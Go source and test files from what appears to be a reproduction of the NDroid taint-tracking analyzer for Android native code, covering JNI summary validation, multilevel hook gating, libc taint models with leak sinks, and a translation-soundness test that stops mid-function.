// voidSummaries drops every cached per-function summary state (sound or
// not): the correctness property is that no state derived from a previous
// binding or code image survives the event. Future synthesis in this
// analyzer is poisoned — per the surface observer's churn semantics, a
// binding set that changed mid-run is not trustworthy input. Counters only;
// never the flow log.
func (a *Analyzer) voidSummaries() {
	if a.sumMode == SummaryOff {
		return
	}
	a.sumChurned = true
	if !a.sumInit {
		return
	}
	a.SummariesVoided += len(a.sumByEntry)
	a.sumByEntry = nil
	a.sumLibs = nil
	a.sumInit = false
}

// summaryInit synthesizes (or loads) transfers for every loaded library.
// Runs lazily at the first crossing so install-time loads are all visible.
func (a *Analyzer) summaryInit() {
	a.sumInit = true
	a.sumByEntry = make(map[uint32]*sumFunc)
	vm := a.Sys.VM
	for _, lib := range vm.NativeLibs() {
		var m map[uint32]*summary.Transfer
		if !a.sumChurned && a.sumCache != nil {
			if p, ok := a.sumCache.LoadSummaries(summaryLibKey(lib)); ok {
				m = summary.Rehydrate(p)
			}
		}
		if m == nil {
			m = summary.SynthesizeLib(static.LibCFG(vm, lib), a.sumChurned)
			if !a.sumChurned && a.sumCache != nil {
				a.sumCache.StoreSummaries(summaryLibKey(lib), summary.Export(m))
			}
		}
		sl := &sumLib{name: lib.Name}
		entries := make([]uint32, 0, len(m))
		for e := range m {
			entries = append(entries, e)
		}
		sort.Slice(entries, func(i, j int) bool { return entries[i] < entries[j] })
		for _, e := range entries {
			fs := &sumFunc{lib: lib.Name, t: m[e]}
			sl.funcs = append(sl.funcs, fs)
			a.sumByEntry[e] = fs
		}
		a.sumLibs = append(a.sumLibs, sl)
	}
}

// summaryEnter decides, at a JNI crossing's entry (after the source policy
// is queued), whether this crossing runs under an accepted summary. It
// pushes exactly one sumPending per crossing; summaryExit pops it. Called
// from both the generic and the bound JNI entry paths.
func (a *Analyzer) summaryEnter(ctx *dvm.CallCtx) {
	if !a.summariesLive() {
		return
	}
	if !a.sumInit {
		a.summaryInit()
	}
	var pend sumPending
	fs := a.sumByEntry[ctx.Method.NativeAddr&^1]
	if fs != nil && !fs.rejected && len(ctx.CPUArgs) <= summary.NumArgCells {
		sh := ctx.Method.Shorty[0]
		wide := sh == 'J' || sh == 'D'
		if fs.t.Acceptable(wide) {
			ok := true
			if a.sumMode == SummaryValidated && !fs.validated {
				if a.validateSummary(fs, ctx, wide) {
					fs.validated = true
				} else {
					fs.rejected = true
					a.SummaryRejections = append(a.SummaryRejections, summary.Rejection{
						Func: fs.t.Name, Entry: fs.t.Entry, Reason: "validation-mismatch",
					})
					ok = false
				}
			}
			if ok {
				pend.fn = fs
				pend.active = true
				pend.wide = wide
				for i := 0; i < summary.NumArgCells && i < len(ctx.ArgTaints); i++ {
					pend.args[i] = ctx.ArgTaints[i]
				}
				a.Tracer.suppress++
			}
		}
	}
	a.sumStack = append(a.sumStack, pend)
}

// summaryExit pops the crossing's decision and, when a summary was active,
// lifts the tracer suppression and replaces the bridge-captured return
// taint with the transfer's — exactly the taint tracing would have left in
// the r0/r1 shadows. Runs before onJNIReturn's own logic, so the object
// walk, the RetOverride, and the "JNIReturn" log line all see the same
// value they would under tracing.
func (a *Analyzer) summaryExit(ctx *dvm.CallCtx) {
	if !a.summariesLive() {
		return
	}
	n := len(a.sumStack)
	if n == 0 {
		return
	}
	pend := a.sumStack[n-1]
	a.sumStack = a.sumStack[:n-1]
	if !pend.active {
		return
	}
	a.Tracer.suppress--
	t := pend.fn.t.Rows[0].Apply(pend.args)
	if pend.wide {
		t |= pend.fn.t.Rows[1].Apply(pend.args)
	}
	ctx.RetTaint = t
	pend.fn.applied++
	a.SummaryApplied++
}

// validationPad is where validation runs park LR: inside the reserved
// call-bridge return range, far above the slots the live bridge uses
// (padDepth*16), so RunUntil stops there and nothing is ever fetched.
const validationPad = kernel.ReturnPadBase + 0x8000

// validateSummary executes the function under systematic single-cell input
// mutations and confirms the observed taint propagation matches the static
// transfer exactly. The tracer stays fully active during the runs — the
// propagation it performs on the planted probe taints IS the observation —
// so validation never trusts the thing it is checking. Any surprise (run
// fault, budget, sentinel leakage, dep mismatch, injected fault) reads as a
// mismatch. CPU state is saved and restored around the whole plan; eligible
// functions touch no memory, so registers and flags are the entire
// footprint.
func (a *Analyzer) validateSummary(fs *sumFunc, ctx *dvm.CallCtx, wide bool) (ok bool) {
	if f := fault.Hit(SiteSummaryValidate, fs.t.Entry); f != nil {
		return false
	}
	c := a.Sys.CPU
	savedR := c.R
	savedT := c.RegTaint
	savedN, savedZ, savedC, savedV, savedThumb := c.N, c.Z, c.C, c.V, c.Thumb
	defer func() {
		if r := recover(); r != nil {
			// A fault injected into the tracer (or any other panic) during a
			// validation run is contained here: the summary is simply not
			// trusted. The real crossing then runs fully traced and hits the
			// same site organically if it was going to.
			ok = false
		}
		c.R = savedR
		c.N, c.Z, c.C, c.V, c.Thumb = savedN, savedZ, savedC, savedV, savedThumb
		for i := range savedT {
			if savedT[i] != 0 {
				c.SetRegTaint(i, savedT[i])
			} else {
				c.RegTaint[i] = 0
			}
		}
	}()

	for _, mu := range summary.Mutations(ctx.CPUArgs) {
		if !a.validationRun(fs, ctx, mu, wide) {
			return false
		}
	}
	return true
}

// validationRun performs one mutated execution and checks the observed dep
// rows against the static transfer.
func (a *Analyzer) validationRun(fs *sumFunc, ctx *dvm.CallCtx, mu summary.Mutation, wide bool) bool {
	c := a.Sys.CPU
	for i := 0; i < summary.NumArgCells; i++ {
		v := uint32(0)
		if i < len(ctx.CPUArgs) {
			v = ctx.CPUArgs[i]
		}
		if mu.Index == i {
			v = mu.Value
		}
		c.R[i] = v
		c.SetRegTaint(i, summary.ProbeTag(i))
	}
	for r := 4; r <= 12; r++ {
		c.SetRegTaint(r, summary.SentinelTag)
	}
	c.SetRegTaint(arm.LR, summary.SentinelTag)
	c.R[arm.LR] = validationPad
	// No hook at entry: the pending SourcePolicy queued for the real
	// crossing must survive these rehearsal runs untouched.
	c.SetPCNoHook(ctx.Method.NativeAddr)
	if err := c.RunUntil(validationPad, 1<<20); err != nil || c.Halted {
		return false
	}
	if summary.ObservedDep(c.RegTaint[0]) != fs.t.Rows[0] {
		return false
	}
	if wide && summary.ObservedDep(c.RegTaint[1]) != fs.t.Rows[1] {
		return false
	}
	return true
}

// SummaryReport exposes the per-library synthesis table to callers driving
// an Analyzer directly (cmd/ndroid); AnalyzeApp copies it into RunResult.
func (a *Analyzer) SummaryReport() []summary.LibReport {
	return a.summaryReport()
}

// summaryReport builds the per-library table for RunResult / marketstudy.
func (a *Analyzer) summaryReport() []summary.LibReport {
	if !a.sumInit {
		return nil
	}
	var out []summary.LibReport
	for _, sl := range a.sumLibs {
		r := summary.LibReport{Lib: sl.name, Functions: len(sl.funcs)}
		for _, fs := range sl.funcs {
			if fs.t.Sound {
				r.Sound++
			}
			if fs.rejected {
				r.Rejected++
			}
			if fs.validated || fs.applied > 0 {
				r.Accepted++
			} else {
				r.Traced++
			}
			r.Applied += fs.applied
		}
		out = append(out, r)
	}
	return out
}
