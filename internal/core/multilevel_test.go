package core

import (
	"testing"

	"repro/internal/dex"
	"repro/internal/dvm"
)

func mlEnv(t *testing.T) (*Analyzer, *dvm.VM) {
	t.Helper()
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	a := NewAnalyzer(sys, ModeNDroid)
	return a, sys.VM
}

// TestMultilevelChainTransitions drives the Fig. 5 T1..T6 sequence by hand
// through branch events.
func TestMultilevelChainTransitions(t *testing.T) {
	a, vm := mlEnv(t)
	ml := NewMultilevel(vm, func(addr uint32) bool { return addr >= 0x8000 && addr < 0x10000 })

	jni := vm.InternalAddr("CallVoidMethodA")
	dcm := vm.InternalAddr("dvmCallMethodA")
	di := vm.InternalAddr("dvmInterpret")
	aSite := uint32(0x8100) // native call site

	if ml.T2() || ml.T3() {
		t.Fatal("conditions must not hold initially")
	}
	ml.OnBranch(aSite, jni) // T1
	if ml.Level() != 1 {
		t.Fatalf("after T1 level=%d", ml.Level())
	}
	ml.OnBranch(jni+8, dcm) // T2
	if !ml.T2() || ml.T3() {
		t.Fatalf("after T2: T2=%v T3=%v", ml.T2(), ml.T3())
	}
	ml.OnBranch(dcm+8, di) // T3
	if !ml.T3() {
		t.Fatal("T3 must hold")
	}
	ml.OnBranch(di+4, dcm+8+4) // T4: return past the dvmInterpret call site
	if ml.Level() != 2 {
		t.Fatalf("after T4 level=%d", ml.Level())
	}
	ml.OnBranch(dcm+4, jni+8+4) // T5
	if ml.Level() != 1 {
		t.Fatalf("after T5 level=%d", ml.Level())
	}
	ml.OnBranch(jni+4, aSite+4) // T6
	if ml.Level() != 0 {
		t.Fatalf("after T6 level=%d", ml.Level())
	}
	_ = a
}

// TestMultilevelIgnoresFrameworkCalls: a dvmCallMethod entered without a
// native-originated T1 must not enable instrumentation.
func TestMultilevelIgnoresFrameworkCalls(t *testing.T) {
	_, vm := mlEnv(t)
	ml := NewMultilevel(vm, func(addr uint32) bool { return addr >= 0x8000 && addr < 0x10000 })
	// Framework code (outside native range) calls dvmCallMethodV directly.
	ml.OnBranch(0x1800_0000, vm.InternalAddr("dvmCallMethodV"))
	if ml.T2() && ml.Level() > 0 {
		t.Error("framework-originated call must not arm T2")
	}
	if ml.Level() != 0 {
		t.Errorf("level = %d, want 0", ml.Level())
	}
}

// TestMultilevelDisabledAlwaysFires: with the mechanism disabled (the E15
// ablation baseline), T2/T3 always report true.
func TestMultilevelDisabledAlwaysFires(t *testing.T) {
	_, vm := mlEnv(t)
	ml := NewMultilevel(vm, nil)
	ml.Enabled = false
	if !ml.T2() || !ml.T3() {
		t.Error("disabled multilevel must always instrument")
	}
}

// TestMultilevelReducesInstrumentation is the E15 ablation: a
// framework-originated CallStaticVoidMethod (no native T1 chain on the
// branch stream) must skip the dvmCallMethod/dvmInterpret instrumentation
// when multilevel hooking is enabled, and run it when disabled.
func TestMultilevelReducesInstrumentation(t *testing.T) {
	run := func(enabled bool) uint64 {
		sys, err := NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		a := NewAnalyzer(sys, ModeNDroid)
		a.ML.Enabled = enabled

		// A trivial app class with a static callback.
		installCallbackClass(t, sys)

		// Drive the JNI-exit trampolines the way framework code (outside the
		// app's native libraries) would: jump straight to them with no
		// native-originated branch chain.
		const strCls, strName, strSig = scratch, scratch + 0x40, scratch + 0x80
		sys.Mem.WriteCString(strCls, "com/mltest/App")
		sys.Mem.WriteCString(strName, "cb")
		sys.Mem.WriteCString(strSig, "()V")

		clsRef := jniCall(t, a, "FindClass", 0, strCls)
		mid := jniCall(t, a, "GetStaticMethodID", 0, clsRef, strName, strSig)
		before := a.InstrumentationCalls
		for i := 0; i < 5; i++ {
			jniCall(t, a, "CallStaticVoidMethod", 0, clsRef, mid)
		}
		return a.InstrumentationCalls - before
	}
	gated := run(true)
	ungated := run(false)
	if !(gated < ungated) {
		t.Errorf("multilevel gating did not reduce instrumentation: gated=%d ungated=%d", gated, ungated)
	}
	if gated != 0 {
		t.Errorf("gated instrumentation = %d, want 0 for framework-originated calls", gated)
	}
}

// jniCall drives a JNI trampoline directly (framework context: no BL from
// app native code, hence no branch event arming T1).
func jniCall(t *testing.T, a *Analyzer, name string, args ...uint32) uint32 {
	t.Helper()
	addr := a.Sys.VM.InternalAddr(name)
	if addr == 0 {
		t.Fatalf("no JNI function %q", name)
	}
	c := a.Sys.CPU
	for i, v := range args {
		c.R[i] = v
	}
	pad := uint32(0x7f10_0000)
	c.R[14] = pad
	c.SetThumbPC(addr)
	if err := c.RunUntil(pad, 1<<20); err != nil {
		t.Fatalf("jniCall %s: %v", name, err)
	}
	return c.R[0]
}

func installCallbackClass(t *testing.T, sys *System) {
	t.Helper()
	cb := dex.NewClass("Lcom/mltest/App;")
	cb.Method("cb", "V", dex.AccStatic, 1).
		Const(0, 1).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
}
