package core

import (
	"repro/internal/arm"
	"repro/internal/fault"
	"repro/internal/libc"
	"repro/internal/taint"
)

// installSysLib wires the System Lib Hook Engine (§V-D): for every modeled
// standard function (Table VI) the default libc hook is replaced by a wrapper
// that applies the function's taint-propagation model around the real
// behaviour, and the starred calls of Table VII become sinks.
func (a *Analyzer) installSysLib() {
	install := func(name string, model modelFunc) {
		addr, ok := a.Sys.Libc.Sym(name)
		if !ok {
			return
		}
		a.Sys.CPU.Hook(addr, func(c *arm.CPU) arm.HookAction {
			model(a, c, name)
			return arm.ActionReturn
		})
	}
	for name, model := range sysModels {
		install(name, model)
	}
	for name, sig := range libmSigs {
		install(name, libmModel(sig.argRegs, sig.wideRet))
	}
}

// libmSigs describes the soft-float signatures of the Table VI libm rows:
// how many argument registers carry data and whether the result is wide.
var libmSigs = map[string]struct {
	argRegs int
	wideRet bool
}{
	"sin": {2, true}, "cos": {2, true}, "tan": {2, true},
	"asin": {2, true}, "acos": {2, true}, "atan": {2, true},
	"sqrt": {2, true}, "floor": {2, true}, "ceil": {2, true},
	"log": {2, true}, "log10": {2, true}, "exp": {2, true},
	"sinh": {2, true}, "cosh": {2, true},
	"pow": {4, true}, "atan2": {4, true}, "fmod": {4, true},
	"ldexp": {3, true},
	"sinf":  {1, false}, "cosf": {1, false}, "sqrtf": {1, false},
	"expf": {1, false}, "powf": {2, false}, "atan2f": {2, false},
}

// modelFunc wraps one libc call: it must invoke the real implementation via
// callImpl exactly once and apply the Table VI taint model around it.
type modelFunc func(a *Analyzer, c *arm.CPU, name string)

func (a *Analyzer) callImpl(name string, c *arm.CPU) {
	// Models run inside a CPU hook, which has no error return; faults unwind
	// as panics and are converted back at the Analyzer.Run containment point.
	if f := fault.Hit(SiteSysLibModel, c.R[arm.PC]); f != nil {
		f.Detail = "injected at libc model " + name
		panic(f)
	}
	if err := a.Sys.Libc.CallImpl(name, c); err != nil {
		panic(fault.AsFault(err, "core"))
	}
}

// cstrLen returns strlen(s)+1 for a guest string.
func (a *Analyzer) cstrLen(addr uint32) uint32 {
	return uint32(len(a.Sys.Mem.ReadCString(addr, 0))) + 1
}

// sysModels covers every libc row of Table VI plus the Table VII calls.
// Functions not listed keep their plain implementation hooks.
var sysModels = map[string]modelFunc{
	// ---- memory/string models (Listing 3 shape) ----
	"memcpy":      modelCopy,
	"memmove":     modelCopy,
	"strcpy":      modelStrcpy,
	"strncpy":     modelStrncpy,
	"strcat":      modelStrcat,
	"strdup":      modelStrdup,
	"memset":      modelMemset,
	"memcmp":      modelCmpN,
	"strcmp":      modelCmpStr,
	"strncmp":     modelCmpStrN,
	"strcasecmp":  modelCmpStr,
	"strncasecmp": modelCmpStrN,
	"strlen":      modelRetFromString(0),
	"atoi":        modelRetFromString(0),
	"atol":        modelRetFromString(0),
	"strtoul":     modelRetFromString(0),
	"strtol":      modelRetFromString(0),
	"strtod":      modelRetFromString(0),
	"strchr":      modelPtrIntoString,
	"strrchr":     modelPtrIntoString,
	"strstr":      modelPtrIntoString,
	"memchr":      modelMemchr,
	"sysconf":     modelClearRet,

	// ---- allocator models ----
	"malloc":  modelMalloc,
	"calloc":  modelCalloc,
	"free":    modelFree,
	"realloc": modelRealloc,

	// ---- formatted output ----
	"sprintf":   modelSprintf,
	"snprintf":  modelSnprintf,
	"vsprintf":  modelVsprintf,
	"vsnprintf": modelVsnprintf,
	"sscanf":    modelSscanf,

	// ---- sinks (Table VII starred + fprintf family) ----
	"write":    modelSinkWrite,
	"send":     modelSinkSend,
	"sendto":   modelSinkSendto,
	"fwrite":   modelSinkFwrite,
	"fputs":    modelSinkFputs,
	"fputc":    modelSinkFputc,
	"fprintf":  modelSinkFprintf,
	"vfprintf": modelSinkVfprintf,

	// ---- trust calls logged for flow traces ----
	"fopen":    modelTrustCall,
	"fclose":   modelTrustCall,
	"fread":    modelTrustCall,
	"read":     modelTrustCall,
	"open":     modelTrustCall,
	"close":    modelTrustCall,
	"recv":     modelTrustCall,
	"socket":   modelTrustCall,
	"connect":  modelTrustCall,
	"dlopen":   modelTrustCall,
	"dlsym":    modelTrustCall,
	"dlclose":  modelTrustCall,
	"mmap":     modelTrustCall,
	"munmap":   modelTrustCall,
	"stat":     modelTrustCall,
	"fstat":    modelTrustCall,
	"fcntl":    modelTrustCall,
	"ioctl":    modelTrustCall,
	"mkdir":    modelTrustCall,
	"rename":   modelTrustCall,
	"remove":   modelTrustCall,
	"fgets":    modelTrustCall,
	"getc":     modelTrustCall,
	"fdopen":   modelTrustCall,
	"bind":     modelTrustCall,
	"listen":   modelTrustCall,
	"accept":   modelTrustCall,
	"select":   modelTrustCall,
	"recvfrom": modelTrustCall,
	"mprotect": modelTrustCall,
	"kill":     modelTrustCall,
	"fork":     modelTrustCall,
	"execve":   modelTrustCall,
	"chown":    modelTrustCall,
	"ptrace":   modelTrustCall,
}

// libmModel propagates argument taints to the return registers; installed
// for every libm function at engine setup.
func libmModel(arity int, wide bool) modelFunc {
	return func(a *Analyzer, c *arm.CPU, name string) {
		var t taint.Tag
		for i := 0; i < arity; i++ {
			t |= c.RegTaint[i]
		}
		a.callImpl(name, c)
		c.SetRegTaint(0, t)
		if wide {
			c.SetRegTaint(1, t)
		}
	}
}

func modelCopy(a *Analyzer, c *arm.CPU, name string) {
	dst, src, n := c.R[0], c.R[1], c.R[2]
	a.callImpl(name, c)
	// Listing 3: per-byte propagation from src to dst.
	a.Engine.Mem.Copy(dst, src, n)
}

func modelStrcpy(a *Analyzer, c *arm.CPU, name string) {
	dst, src := c.R[0], c.R[1]
	n := a.cstrLen(src)
	a.callImpl(name, c)
	a.Engine.Mem.Copy(dst, src, n)
}

func modelStrncpy(a *Analyzer, c *arm.CPU, name string) {
	dst, src, n := c.R[0], c.R[1], c.R[2]
	if sl := a.cstrLen(src); sl < n {
		n = sl
	}
	a.callImpl(name, c)
	a.Engine.Mem.Copy(dst, src, n)
}

func modelStrcat(a *Analyzer, c *arm.CPU, name string) {
	dst, src := c.R[0], c.R[1]
	dstLen := a.cstrLen(dst) - 1
	srcLen := a.cstrLen(src)
	a.callImpl(name, c)
	a.Engine.Mem.Copy(dst+dstLen, src, srcLen)
}

func modelStrdup(a *Analyzer, c *arm.CPU, name string) {
	src := c.R[0]
	n := a.cstrLen(src)
	a.callImpl(name, c)
	if c.R[0] != 0 {
		a.Engine.Mem.Copy(c.R[0], src, n)
	}
	c.RegTaint[0] = 0
}

func modelMemset(a *Analyzer, c *arm.CPU, name string) {
	dst, n := c.R[0], c.R[2]
	t := c.RegTaint[1]
	a.callImpl(name, c)
	a.Engine.Mem.SetRange(dst, n, t)
}

func modelCmpN(a *Analyzer, c *arm.CPU, name string) {
	t := a.Engine.Mem.GetRange(c.R[0], c.R[2]) | a.Engine.Mem.GetRange(c.R[1], c.R[2])
	a.callImpl(name, c)
	c.SetRegTaint(0, t)
}

func modelCmpStr(a *Analyzer, c *arm.CPU, name string) {
	t := a.Engine.Mem.GetRange(c.R[0], a.cstrLen(c.R[0])) |
		a.Engine.Mem.GetRange(c.R[1], a.cstrLen(c.R[1]))
	a.callImpl(name, c)
	c.SetRegTaint(0, t)
}

func modelCmpStrN(a *Analyzer, c *arm.CPU, name string) {
	n := c.R[2]
	t := a.Engine.Mem.GetRange(c.R[0], n) | a.Engine.Mem.GetRange(c.R[1], n)
	a.callImpl(name, c)
	c.SetRegTaint(0, t)
}

// modelRetFromString taints the return value from the bytes of the string
// argument at position arg.
func modelRetFromString(arg int) modelFunc {
	return func(a *Analyzer, c *arm.CPU, name string) {
		t := a.Engine.Mem.GetRange(c.R[arg], a.cstrLen(c.R[arg]))
		a.callImpl(name, c)
		c.SetRegTaint(0, t)
		c.SetRegTaint(1, t) // wide returns (strtod)
	}
}

func modelPtrIntoString(a *Analyzer, c *arm.CPU, name string) {
	t := a.Engine.Mem.GetRange(c.R[0], a.cstrLen(c.R[0]))
	a.callImpl(name, c)
	// The returned pointer indexes into the (possibly tainted) buffer.
	c.SetRegTaint(0, t)
}

func modelMemchr(a *Analyzer, c *arm.CPU, name string) {
	t := a.Engine.Mem.GetRange(c.R[0], c.R[2])
	a.callImpl(name, c)
	c.SetRegTaint(0, t)
}

func modelClearRet(a *Analyzer, c *arm.CPU, name string) {
	a.callImpl(name, c)
	c.RegTaint[0] = 0
}

func modelMalloc(a *Analyzer, c *arm.CPU, name string) {
	n := c.R[0]
	a.callImpl(name, c)
	if c.R[0] != 0 {
		a.Engine.Mem.ClearRange(c.R[0], n)
	}
	c.RegTaint[0] = 0
}

func modelCalloc(a *Analyzer, c *arm.CPU, name string) {
	n := c.R[0] * c.R[1]
	a.callImpl(name, c)
	if c.R[0] != 0 {
		a.Engine.Mem.ClearRange(c.R[0], n)
	}
	c.RegTaint[0] = 0
}

func modelFree(a *Analyzer, c *arm.CPU, name string) {
	addr := c.R[0]
	if size, ok := a.Sys.Libc.AllocSize(addr); ok {
		a.Engine.Mem.ClearRange(addr, size)
	}
	a.callImpl(name, c)
}

func modelRealloc(a *Analyzer, c *arm.CPU, name string) {
	old, n := c.R[0], c.R[1]
	oldSize, _ := a.Sys.Libc.AllocSize(old)
	if oldSize > n {
		oldSize = n
	}
	// Capture taints before the implementation frees the old block.
	taints := make([]taint.Tag, oldSize)
	for i := uint32(0); i < oldSize; i++ {
		taints[i] = a.Engine.Mem.Get(old + i)
	}
	a.callImpl(name, c)
	if c.R[0] != 0 {
		for i := uint32(0); i < oldSize; i++ {
			a.Engine.Mem.Set(c.R[0]+i, taints[i])
		}
	}
	c.RegTaint[0] = 0
}

// formatTaint unions the taints of a format invocation: the format string's
// bytes plus each consumed argument's shadow state.
func (a *Analyzer) formatTaint(c *arm.CPU, fmtAddr uint32, args []libc.FormatArg) taint.Tag {
	t := a.Engine.Mem.GetRange(fmtAddr, a.cstrLen(fmtAddr))
	for _, fa := range args {
		if fa.StrAddr != 0 {
			t |= a.Engine.Mem.GetRange(fa.StrAddr, fa.StrLen+1)
		}
		if fa.ArgPos >= 0 && fa.ArgPos < 4 {
			t |= c.RegTaint[fa.ArgPos]
		}
		if fa.SrcAddr != 0 {
			t |= a.Engine.Mem.Get32(fa.SrcAddr)
		}
	}
	return t
}

func modelSprintf(a *Analyzer, c *arm.CPU, name string) {
	dst := c.R[0]
	out, args := a.Sys.Libc.FormatAAPCS(c, c.R[1], 2)
	t := a.formatTaint(c, c.R[1], args)
	a.callImpl(name, c)
	a.Engine.Mem.SetRange(dst, uint32(len(out))+1, t)
}

func modelSnprintf(a *Analyzer, c *arm.CPU, name string) {
	dst, n := c.R[0], c.R[1]
	out, args := a.Sys.Libc.FormatAAPCS(c, c.R[2], 3)
	t := a.formatTaint(c, c.R[2], args)
	a.callImpl(name, c)
	size := uint32(len(out)) + 1
	if size > n {
		size = n
	}
	a.Engine.Mem.SetRange(dst, size, t)
}

func modelVsprintf(a *Analyzer, c *arm.CPU, name string) {
	dst := c.R[0]
	out, args := a.Sys.Libc.FormatVA(c.R[1], c.R[2])
	t := a.formatTaint(c, c.R[1], args)
	a.callImpl(name, c)
	a.Engine.Mem.SetRange(dst, uint32(len(out))+1, t)
}

func modelVsnprintf(a *Analyzer, c *arm.CPU, name string) {
	dst, n := c.R[0], c.R[1]
	out, args := a.Sys.Libc.FormatVA(c.R[2], c.R[3])
	t := a.formatTaint(c, c.R[2], args)
	a.callImpl(name, c)
	size := uint32(len(out)) + 1
	if size > n {
		size = n
	}
	a.Engine.Mem.SetRange(dst, size, t)
}

func modelSscanf(a *Analyzer, c *arm.CPU, name string) {
	src := c.R[0]
	t := a.Engine.Mem.GetRange(src, a.cstrLen(src))
	a.callImpl(name, c)
	if t == 0 {
		return
	}
	// Conservative: the output argument targets receive the input's taint.
	// Output pointers are args 2..2+matched-1.
	matched := c.R[0]
	for i := uint32(0); i < matched; i++ {
		ptr := c.Arg(int(2 + i))
		a.Engine.Mem.AddRange(ptr, 4, t)
	}
	c.RegTaint[0] = 0
}

// --- sinks -------------------------------------------------------------------

// sinkData captures the leaked bytes only when the buffer is tainted; clean
// traffic costs one taint-map scan, which is what keeps the paper's disk and
// network rows near 1x.
func (a *Analyzer) sinkData(buf, n uint32, t taint.Tag) []byte {
	if t == 0 {
		return nil
	}
	return a.Sys.Mem.ReadBytes(buf, n)
}

func modelSinkWrite(a *Analyzer, c *arm.CPU, name string) {
	fd, buf, n := int32(c.R[0]), c.R[1], c.R[2]
	t := a.Engine.Mem.GetRange(buf, n) | c.RegTaint[1]
	data := a.sinkData(buf, n, t)
	a.callImpl(name, c)
	if t != 0 {
		a.report(name, a.fdDesc(fd), t, data)
	}
}

func modelSinkSend(a *Analyzer, c *arm.CPU, name string) {
	fd, buf, n := int32(c.R[0]), c.R[1], c.R[2]
	t := a.Engine.Mem.GetRange(buf, n) | c.RegTaint[1]
	data := a.sinkData(buf, n, t)
	a.callImpl(name, c)
	if t != 0 {
		a.report(name, a.fdDesc(fd), t, data)
	}
}

func modelSinkSendto(a *Analyzer, c *arm.CPU, name string) {
	buf, n := c.R[1], c.R[2]
	t := a.Engine.Mem.GetRange(buf, n) | c.RegTaint[1]
	data := a.sinkData(buf, n, t)
	var dest string
	if t != 0 {
		dest = a.Sys.Mem.ReadCString(c.R[3], 0)
	}
	a.callImpl(name, c)
	if t != 0 {
		a.report(name, dest, t, data)
	}
}

func modelSinkFwrite(a *Analyzer, c *arm.CPU, name string) {
	buf, n := c.R[0], c.R[1]*c.R[2]
	fp := c.R[3]
	t := a.Engine.Mem.GetRange(buf, n) | c.RegTaint[0]
	data := a.sinkData(buf, n, t)
	a.callImpl(name, c)
	if t != 0 {
		dest, _ := a.Sys.Libc.FilePath(fp)
		a.report(name, dest, t, data)
	}
}

func modelSinkFputs(a *Analyzer, c *arm.CPU, name string) {
	s := c.R[0]
	n := a.cstrLen(s)
	t := a.Engine.Mem.GetRange(s, n) | c.RegTaint[0]
	data := a.Sys.Mem.ReadBytes(s, n-1)
	dest, _ := a.Sys.Libc.FilePath(c.R[1])
	a.callImpl(name, c)
	a.report(name, dest, t, data)
}

func modelSinkFputc(a *Analyzer, c *arm.CPU, name string) {
	t := c.RegTaint[0]
	data := []byte{byte(c.R[0])}
	dest, _ := a.Sys.Libc.FilePath(c.R[1])
	a.callImpl(name, c)
	a.report(name, dest, t, data)
}

func modelSinkFprintf(a *Analyzer, c *arm.CPU, name string) {
	fp := c.R[0]
	out, args := a.Sys.Libc.FormatAAPCS(c, c.R[1], 2)
	t := a.formatTaint(c, c.R[1], args)
	dest, _ := a.Sys.Libc.FilePath(fp)
	a.Log.Addf("SinkHandler[fprintf] begin: fprintf(FILE@0x%x, ...)", fp)
	for _, fa := range args {
		if fa.StrAddr != 0 {
			a.Log.Addf("t[%x] = %v write: %s", fa.StrAddr,
				a.Engine.Mem.GetRange(fa.StrAddr, fa.StrLen+1), fa.Text)
		}
	}
	a.callImpl(name, c)
	a.report(name, dest, t, []byte(out))
	a.Log.Addf("SinkHandler[fprintf] end")
}

func modelSinkVfprintf(a *Analyzer, c *arm.CPU, name string) {
	fp := c.R[0]
	out, args := a.Sys.Libc.FormatVA(c.R[1], c.R[2])
	t := a.formatTaint(c, c.R[1], args)
	dest, _ := a.Sys.Libc.FilePath(fp)
	a.callImpl(name, c)
	a.report(name, dest, t, []byte(out))
}

func modelTrustCall(a *Analyzer, c *arm.CPU, name string) {
	a.Log.Addf("TrustCallHandler[%s] begin", name)
	a.callImpl(name, c)
	a.Log.Addf("TrustCallHandler[%s] end", name)
}
