package core_test

import (
	"fmt"
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
)

// runAppTrans runs an app with the DVM translation engine explicitly enabled
// or disabled, gate on or off.
func runAppTrans(t *testing.T, app *apps.App, mode core.Mode, gate, noTranslate bool) *core.Analyzer {
	t.Helper()
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	sys.VM.NoJavaTranslate = noTranslate
	if err := app.Install(sys); err != nil {
		t.Fatalf("install %s: %v", app.Name, err)
	}
	var a *core.Analyzer
	if gate {
		a = core.NewAnalyzer(sys, mode)
	} else {
		a = core.NewAnalyzerNoGate(sys, mode)
	}
	a.Log.Enabled = true
	if err := app.Run(sys); err != nil {
		t.Fatalf("run %s under %s: %v", app.Name, mode, err)
	}
	return a
}

// TestJavaTranslationSoundnessFlowLogs is the acceptance check for the
// method-granular translation engine: for every evaluation app (the Table I
// replays and the four case studies), every analysis mode, and both gate
// settings, the flow log, the leak list, and the detection verdict must be
// byte-identical between the translated engine and the per-instruction
// interpreter. Translation is a pure performance transform.
func TestJavaTranslationSoundnessFlowLogs(t *testing.T) {
	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	for _, app := range apps.Registry() {
		for _, mode := range modes {
			for _, gate := range []bool{true, false} {
				app, mode, gate := app, mode, gate
				t.Run(fmt.Sprintf("%s/%s/gate=%v", app.Name, mode, gate), func(t *testing.T) {
					interp := runAppTrans(t, app, mode, gate, true)
					trans := runAppTrans(t, app, mode, gate, false)

					if got, want := trans.Log.String(), interp.Log.String(); got != want {
						t.Errorf("flow log diverges under translation:\n--- translated ---\n%s\n--- interpreted ---\n%s", got, want)
					}
					if got, want := leakStrings(trans), leakStrings(interp); got != want {
						t.Errorf("leaks diverge under translation:\ntranslated:\n%s\ninterpreted:\n%s", got, want)
					}
					if app.ExpectTag != 0 {
						if trans.Detected(app.ExpectTag) != interp.Detected(app.ExpectTag) {
							t.Errorf("detection verdict diverges: translated=%v interpreted=%v",
								trans.Detected(app.ExpectTag), interp.Detected(app.ExpectTag))
						}
					}
				})
			}
		}
	}
}

// TestJavaTranslationEngages asserts the engine actually runs: in the
// gated NDroid configuration the apps' Java frames must execute through
// compiled methods, not the interpreter, and a leaking app must record the
// clean->tainting bail or taint-variant frames.
func TestJavaTranslationEngages(t *testing.T) {
	benign, ok := apps.ByName("benign")
